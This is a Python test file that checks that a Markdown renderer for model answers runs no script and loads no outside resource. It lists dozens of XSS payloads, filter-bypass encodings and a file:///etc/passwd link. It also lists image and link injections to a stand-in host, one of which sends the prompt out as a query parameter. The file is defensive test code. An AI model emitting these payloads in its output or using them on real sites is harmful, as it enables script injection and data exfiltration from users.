"""An answer as HTML: whatever a model writes, nothing runs and nothing is loaded."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from playground.pages.markdown import MAX_CHARACTERS, TAGS, rendered

HOST = "http://listener.example"
ATTRIBUTES = {
    "a": {"href", "target", "rel", "title"},
    "ol": {"start"},
    "span": {"class"},
    "pre": {"tabindex"},
    "table": {"tabindex"},
    "div": {"class"},
    "code": {"class"},
    "button": {"type", "class", "data-copies-block", "aria-label"},
}
LINK = re.compile(r"(https?://|mailto:)", re.IGNORECASE)

RUNS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//listener.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick=alert(1)>click</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<isindex action=javascript:alert(1) type=image>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#0058;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](blob:http://127.0.0.1/1)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](http://a.example "t" onmouseover=alert(1))',
    "[x](http://a.example '\"onmouseover=alert(1)')",
    '[x](http://a.example/"onmouseover="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "> <script>alert(1)</script>",
    "- <svg/onload=alert(1)>",
    "**<b onmouseover=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
]
"""Ways to run something."""

LOADS = [
    f"![x]({HOST}/1.png)",
    f'![x]({HOST}/1.png?secret=the-prompt "title")',
    f"![x][ref]\n\n[ref]: {HOST}/1.png",
    f"![ref]\n\n[ref]: {HOST}/1.png",
    f"[![x]({HOST}/1.png)](http://a.example)",
    f"![x](<{HOST}/1.png>)",
    "![x](//listener.example/1.png)",
    "![x](data:image/png;base64,AAAA)",
    f"<img src={HOST}/1.png>",
    f"<img srcset='{HOST}/1.png 2x'>",
    f"<picture><source srcset={HOST}/1.png></picture>",
    f"<svg><image href='{HOST}/1.svg'/></svg>",
    f"<svg><use href='{HOST}/1.svg#x'/></svg>",
    f"<iframe src={HOST}></iframe>",
    f"<frameset><frame src={HOST}></frameset>",
    f"<object data={HOST}></object><embed src={HOST}>",
    f"<video src={HOST} poster={HOST}></video><audio src={HOST}></audio><track src={HOST}>",
    f"<link rel=stylesheet href={HOST}/1.css>",
    f"<link rel=dns-prefetch href={HOST}>",
    f"<style>@import url({HOST}/1.css);</style>",
    f"<style>body{{background:url({HOST}/1.png)}}</style>",
    f"<p style='background:url({HOST}/1.png)'>x</p>",
    f"<table background={HOST}/1.png><tr><td>x</td></tr></table>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href={HOST}>",
    f"<form action={HOST}><input name=a><button>go</button></form>",
    f"<a href={HOST} ping={HOST}>x</a>",
    f"<input type=image src={HOST}/1.png>",
    "[x](/logout)",
    "[x](//listener.example)",
    "[x](../admin/)",
    "[x](?execution=1)",
]
"""Ways to load something, or to have somebody act on this service."""


class Parts(HTMLParser):
    """Tags and attributes as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keeps it."""
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def _check(text: str) -> None:
    html = rendered(text)
    assert html is not None
    for tag, attributes in Parts(html).found:
        assert tag in TAGS | {"div", "button"}, html
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()), html
        if tag == "span":
            assert attributes == {"class": "link-host"}
        if "href" in attributes:
            assert LINK.match(attributes["href"]), html
            assert {"noopener", "noreferrer", "nofollow"} <= set(attributes["rel"].split())


@pytest.mark.parametrize("payload", RUNS)
def test_nothing_runs(payload: str) -> None:
    _check(payload)
    _check(f"before {payload} after")
    _check(f"1. item\n\n   {payload}\n")


@pytest.mark.parametrize("payload", LOADS)
def test_nothing_is_loaded(payload: str) -> None:
    _check(payload)
    _check(f"before {payload} after")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*RUNS, *LOADS, "\n", "\n\n", " ", "`", "[", "](", ")", "<", ">", '"', "|", "&"])))
@example(["[", *RUNS[:3], "](", LOADS[0], ")"])
def test_no_mixture_of_them_gets_through(pieces: list[str]) -> None:
    _check("".join(pieces))


@settings(max_examples=300, deadline=None)
@example("half a pair: \ud83d")
@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("<>[]()!`*_#|&\"'=:/\\\n\t \0")), max_size=200))
def test_only_the_listed_tags_come_out(text: str) -> None:
    _check(text)


def test_a_link_shows_where_it_leads() -> None:
    html = rendered("[your bank](https://evil.example/login)")
    assert html is not None
    assert '<span class="link-host">(evil.example)</span>' in html
    assert 'target="_blank"' in html


def test_a_picture_is_a_link_to_follow_or_not() -> None:
    html = rendered(f"![a cat]({HOST}/cat.png)")
    assert html is not None
    assert "<img" not in html
    assert "a cat" in html


def test_headings_start_below_the_pages_own_and_skip_none() -> None:
    html = rendered("# one\n\n#### four\n\n## two")
    assert html is not None
    assert re.findall(r"<(h\d)>", html) == ["h3", "h4", "h4"]


@pytest.mark.parametrize("more", [0, 1])
def test_what_is_too_long_is_not_rendered(more: int) -> None:
    assert (rendered("a" * (MAX_CHARACTERS + more)) is None) is bool(more)


@pytest.mark.parametrize("piece", ["[", "*", "`", "> ", "- ", "![", "<", "**a", "[a](", "|a", "&", "_a_"])
def test_no_text_holds_up_the_page(piece: str) -> None:
    began = time.process_time()
    rendered((piece * MAX_CHARACTERS)[:MAX_CHARACTERS])
    assert time.process_time() - began < 4
